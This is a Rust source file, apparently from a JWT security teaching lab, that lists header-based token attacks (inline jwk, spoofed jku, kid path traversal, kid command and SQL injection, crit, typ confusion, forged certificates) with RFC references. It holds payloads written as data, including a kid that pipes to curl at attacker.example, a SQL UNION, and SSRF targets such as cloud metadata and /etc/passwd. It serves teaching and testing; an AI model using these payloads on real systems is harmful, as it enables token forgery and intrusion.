//! Attacks by the header: it brings a key, says where one lies, or sets rules of its own.

use super::{Attack, AttackKind, JudgedBy, Variant, attack, variant};
use crate::code::Code;
use crate::lab::forge::{Members, quoted};
use crate::lab::naive;
use crate::profiles::demo::DemoAlgorithm;

pub(super) static ATTACKS: &[Attack] = &[
    Attack {
        what: "The header brings a key along, and the signature was made with it. Of course it fits: anybody can \
               vouch for themselves.",
        changes: "`jwk` holds the attacker's key, signed with it",
        lesson: Some("keys-in-the-header"),
        rfc: "RFC 8725 §3.10",
        ..attack(
            11,
            "ik",
            "inline-key",
            "Inline key",
            Code::HeaderNotAllowed,
            AttackKind::Token {
                judged_by: JudgedBy::Demo,
                forge: |forge, _| {
                    let header = forge.original.header.with("jwk", forge.attacker_jwk());
                    forge.by_attacker(&header, "Made with the key that the header brings.")
                },
                naive: &naive::TRUSTS_JWK,
            },
        )
    },
    Attack {
        what: "The header says where the verifier shall fetch the keys, and there lie the attacker's. Besides, the server \
               makes a request to any address that a stranger likes.",
        changes: "`jku` holds the attacker's address, signed with the key that lies there",
        lesson: Some("keys-in-the-header"),
        rfc: "RFC 8725 §3.10",
        variants: &[
            variant("https://keys.attacker.example/jwks.json", "a key set of the attacker"),
            variant("http://169.254.169.254/latest/meta-data/", "an address inside the server's own network"),
            variant("file:///etc/passwd", "a file"),
        ],
        ..attack(
            12,
            "sk",
            "spoofed-key-set",
            "Spoofed key set",
            Code::HeaderNotAllowed,
            AttackKind::Token {
                judged_by: JudgedBy::Demo,
                forge: |forge, address| {
                    let header = forge.original.header.with("jku", quoted(address));
                    forge.by_attacker(&header, "Made with the key that would lie at the address.")
                },
                naive: &naive::FOLLOWS_JKU,
            },
        )
    },
    Attack {
        what: "Where `kid` is a file name, it can name a file that is empty or missing. Then the key is known: it is empty.",
        changes: "`kid` is a path to nothing, signed with the empty key",
        lesson: Some("keys-in-the-header"),
        rfc: "RFC 8725 §3.10",
        needs: Some(DemoAlgorithm::Hs256),
        variants: PATHS,
        ..attack(13, "ke", "kid-empty-file", "`kid` to an empty file", Code::UnknownKid, EMPTY_FILE)
    },
    Attack {
        what: "The same token before a session that expects RS256. It says HS256, so it falls before anybody looks for its \
               key.",
        changes: "`kid` is a path to nothing, `alg` becomes HS256, signed with the empty key",
        lesson: Some("keys-in-the-header"),
        rfc: "RFC 8725 §3.1",
        needs: Some(DemoAlgorithm::Rs256),
        variants: PATHS,
        ..attack(
            13,
            "ke",
            "kid-empty-file-rs256",
            "`kid` to an empty file, under RS256",
            Code::AlgNotAllowed,
            EMPTY_FILE,
        )
    },
    Attack {
        what: "Where `kid` ends in a shell or in an `open` that knows pipes, it is a command. The damage is done before the \
               signature is looked at.",
        changes: "`kid` is a command",
        lesson: Some("keys-in-the-header"),
        rfc: "RFC 8725 §3.10",
        variants: &[
            variant("| sleep 10", "a pipe to sleep"),
            variant("| curl https://listener.attacker.example/", "a pipe to curl"),
        ],
        ..attack(
            14,
            "ki",
            "kid-command",
            "`kid` as a command",
            Code::UnknownKid,
            AttackKind::Token {
                judged_by: JudgedBy::Demo,
                forge: |forge, command| {
                    let header = forge.original.header.with("kid", quoted(command));
                    Ok(match forge.under() {
                        DemoAlgorithm::Hs256 => {
                            forge.maced(&header, b"", "Made with the empty key, which such a command prints.")
                        }
                        DemoAlgorithm::Rs256 => forge.stale(header.to_string(), forge.original.claims.to_string()),
                    })
                },
                naive: &naive::RUNS_KID_AS_COMMAND,
            },
        )
    },
    Attack {
        what: "Where `kid` is pasted into a query, it can answer the query itself. The key is then whatever the attacker \
               selected.",
        changes: "`kid` is a UNION that selects a known key, signed with that key",
        lesson: Some("keys-in-the-header"),
        rfc: "RFC 8725 §3.10",
        needs: Some(DemoAlgorithm::Hs256),
        ..attack(15, "ks", "kid-sql", "`kid` as SQL", Code::UnknownKid, SQL)
    },
    Attack {
        what: "The same token before a session that expects RS256. It says HS256, so no query is ever made.",
        changes: "`kid` is a UNION that selects a known key, `alg` becomes HS256, signed with that key",
        lesson: Some("keys-in-the-header"),
        rfc: "RFC 8725 §3.1",
        needs: Some(DemoAlgorithm::Rs256),
        ..attack(15, "ks", "kid-sql-rs256", "`kid` as SQL, under RS256", Code::AlgNotAllowed, SQL)
    },
    Attack {
        what: "Header members that name a key or a rule hold the address of a listener. If the listener is called, the \
               server asks whomever a stranger wants.",
        changes: "one header member becomes an address",
        lesson: Some("keys-in-the-header"),
        rfc: "RFC 8725 §3.10",
        variants: &[
            variant("jku", "jku"),
            variant("x5u", "x5u"),
            variant("x5c", "x5c"),
            variant("jwk", "jwk"),
            variant("crit", "crit"),
            variant("zip", "zip"),
        ],
        ..attack(
            16,
            "oa",
            "outside-header",
            "An address in the header",
            Code::HeaderNotAllowed,
            AttackKind::Token {
                judged_by: JudgedBy::Demo,
                forge: |forge, member| Ok(forge.headed_stale(member, quoted(super::claims::LISTENER))),
                naive: &naive::CALLS_ADDRESSES,
            },
        )
    },
    Attack {
        what: "`kid` holds the address of a listener. It only ever picks among the keys that the server holds.",
        changes: "`kid` becomes an address",
        lesson: Some("keys-in-the-header"),
        rfc: "RFC 8725 §3.10",
        ..attack(
            16,
            "oa",
            "outside-kid",
            "An address as `kid`",
            Code::UnknownKid,
            AttackKind::Token {
                judged_by: JudgedBy::Demo,
                forge: |forge, _| Ok(forge.headed_stale("kid", quoted(super::claims::LISTENER))),
                naive: &naive::CALLS_ADDRESSES,
            },
        )
    },
    Attack {
        what: "`crit` lists extensions that must be understood. Whoever does not understand them must refuse the token, \
               however good it is.",
        changes: "`crit` lists an extension that nobody knows; re-signed",
        rfc: "RFC 7515 §4.1.11",
        variants: &[variant("unknown", "an extension that nobody knows"), variant("exp", "exp, as if it were one")],
        ..attack(
            31,
            "cr",
            "crit",
            "Critical extension",
            Code::HeaderNotAllowed,
            AttackKind::Token {
                judged_by: JudgedBy::Lab,
                forge: |forge, listed| {
                    let header = forge.lab_header();
                    let header = match listed {
                        "exp" => header.with("crit", r#"["exp"]"#).with("exp", forge.seconds(60)),
                        _ => header.with("crit", r#"["x"]"#).with("x", "true"),
                    };
                    forge.resigned(header.to_string(), forge.original.claims.to_string())
                },
                naive: &naive::IGNORES_CRIT,
            },
        )
    },
    Attack {
        what: "The header says that this is an access token, and the signature is right. Tokens of two kinds must never \
               pass for each other, and `typ` is what tells them apart.",
        changes: "`typ` becomes another kind's; re-signed",
        rfc: "RFC 8725 §3.11",
        variants: TYPES,
        ..attack(
            32,
            "at",
            "another-typ",
            "Another `typ`",
            Code::WrongType,
            AttackKind::Token {
                judged_by: JudgedBy::Lab,
                forge: |forge, typ| forge.headed("typ", quoted(typ)),
                naive: &naive::IGNORES_TYP,
            },
        )
    },
    Attack {
        what: "The same change with the old signature. It covers the header too, so `typ` is never looked at.",
        changes: "`typ` becomes another kind's, old signature",
        lesson: Some("tamper"),
        rfc: "RFC 7515 §5.2",
        variants: TYPES,
        ..attack(
            32,
            "at",
            "another-typ-stale",
            "Another `typ`, old signature",
            Code::BadSignature,
            AttackKind::Token {
                judged_by: JudgedBy::Demo,
                forge: |forge, typ| Ok(forge.headed_stale("typ", quoted(typ))),
                naive: &naive::SKIPS_SIGNATURE,
            },
        )
    },
    Attack {
        what: "An API takes only tokens that call themselves `at+jwt`, and this one does not. What is missing is refused as \
               what is wrong.",
        changes: "`typ` is absent, or the ordinary one, where the profile sets its own; re-signed",
        rfc: "RFC 9068 §4",
        variants: &[variant("absent", "absent"), variant("JWT", "the ordinary JWT")],
        ..attack(
            32,
            "at",
            "typ-at-api",
            "`typ` missing at an API",
            Code::WrongType,
            AttackKind::Token {
                judged_by: JudgedBy::LabApi,
                forge: |forge, typ| {
                    let header = match typ {
                        "JWT" => forge.lab_header().with("typ", quoted("JWT")),
                        _ => forge.lab_header().without("typ"),
                    };
                    forge.resigned(header.to_string(), super::claims::api_claims(forge).to_string())
                },
                naive: &naive::IGNORES_TYP,
            },
        )
    },
    Attack {
        what: "The header points at a certificate, or brings one. It certifies nothing: the attacker made it for \
               the attacker's own key.",
        changes: "`x5c` holds a certificate, or `x5u` an address, for the attacker's key",
        lesson: Some("keys-in-the-header"),
        rfc: "RFC 8725 §3.10",
        variants: &[variant("x5c", "a certificate in x5c"), variant("x5u", "an address in x5u")],
        ..attack(
            34,
            "ce",
            "certificate-in-header",
            "Certificate in the header",
            Code::HeaderNotAllowed,
            AttackKind::Token {
                judged_by: JudgedBy::Demo,
                forge: |forge, member| {
                    let value = match member {
                        "x5u" => quoted("https://keys.attacker.example/certificate.pem"),
                        _ => format!("[{}]", quoted(&forge.attacker_certificate()?)),
                    };
                    let header = forge.original.header.with("alg", quoted("RS256")).with(member, value);
                    forge.by_rsa_attacker(&header, "Made with the key of the certificate.")
                },
                naive: &naive::TRUSTS_CERTIFICATES,
            },
        )
    },
];

const TYPES: &[Variant] =
    &[variant("at+jwt", "at+jwt, an access token"), variant("logout+jwt", "logout+jwt, a logout token")];

const PATHS: &[Variant] = &[
    variant("../../../../dev/null", "../../../../dev/null"),
    variant("/dev/null", "/dev/null"),
    variant("/invalid_path", "/invalid_path"),
    variant("no-name", "the empty name"),
];

const EMPTY_FILE: AttackKind = AttackKind::Token {
    judged_by: JudgedBy::Demo,
    forge: |forge, path| {
        let path = if path == "no-name" { "" } else { path };
        let header: Members = forge.original.header.with("kid", quoted(path));
        Ok(forge.maced(&header, b"", "Made with the empty key, which is what lies there."))
    },
    naive: &naive::READS_KID_AS_PATH,
};

const SQL: AttackKind = AttackKind::Token {
    judged_by: JudgedBy::Demo,
    forge: |forge, _| {
        let header = forge.original.header.with("kid", quoted("x' UNION SELECT 'known-key' -- "));
        Ok(forge.maced(&header, b"known-key", "Made with the key that the query selects."))
    },
    naive: &naive::PASTES_KID_INTO_SQL,
};
